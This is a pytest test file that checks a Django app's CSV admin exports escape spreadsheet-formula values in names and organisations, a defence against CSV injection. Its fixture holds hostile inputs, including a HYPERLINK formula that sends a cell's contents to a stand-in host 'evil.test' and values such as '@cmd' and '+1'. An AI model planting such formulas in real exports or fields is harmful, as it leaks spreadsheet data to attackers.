"""Every export escapes cells a spreadsheet would run as formulas."""

import csv
import io

import pytest

from programs.models import Unit
from reviews.models import Review
from tests.reports import worlds

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'


def rows_of(client, slug: str) -> list[list[str]]:
    response = client.get(f"/admin/reports/{slug}.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


@pytest.fixture
def hostile_world(demo_catalog):
    """Names and organisations as typed at sign-up, each one a formula."""
    reviewer = worlds.an_admin()
    reviewer.legal_name = "@SUM(A1:A9)"
    reviewer.save()
    learner = worlds.reviewed_learner(
        reviewer=reviewer,
        decision="not_met",
        legal_name=HYPERLINK,
        organisation="+1",
        email="hostile@example.org",
    )
    worlds.issued_award(learner, slug=worlds.LOYOLA_FULL)
    leader = worlds.invoiced_learner(
        legal_name="-2+3", organisation="@cmd", email="leader@example.org"
    )
    worlds.group_invoiced(leader=leader, organisation="-2")
    return reviewer


def test_a_formula_in_a_name_or_organisation_is_text_in_every_export(
    client, hostile_world
):
    client.force_login(hostile_world)

    enrollments = rows_of(client, "enrollments")
    invoices = rows_of(client, "invoices")
    reviews = rows_of(client, "reviews")
    awards = rows_of(client, "awards")

    hostile = [row for row in enrollments if row[2] == "hostile@example.org"]
    assert [row[1:4] for row in hostile] == [
        ["'" + HYPERLINK, "hostile@example.org", "'+1"]
    ]
    assert [row[2:5] for row in invoices[1:]] == [
        ["'-2+3", "leader@example.org", "'@cmd"],
        ["'-2+3", "leader@example.org", "'-2"],
    ]
    assert [(row[1], row[3], row[11]) for row in reviews[1:]] == [
        ("'" + HYPERLINK, "'+1", "'@SUM(A1:A9)")
    ]
    assert [row[1:4] for row in awards[1:]] == [
        ["'" + HYPERLINK, "hostile@example.org", "'+1"]
    ]
    # no unescaped cell anywhere starts a formula
    for rows in (enrollments, invoices, reviews, awards):
        for row in rows:
            assert not [c for c in row if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_the_review_export_marks_the_pass_rate_rule(client, hostile_world):
    client.force_login(hostile_world)
    loyola = Unit.objects.get(slug=worlds.LOYOLA_FULL)
    assert (
        Review.objects.filter(
            version__submission__enrollment__offering__unit=loyola
        ).count()
        == 1
    )

    (review,) = rows_of(client, "reviews")[1:]

    assert review[13:] == ["Not Met", "", "", "", "no"]
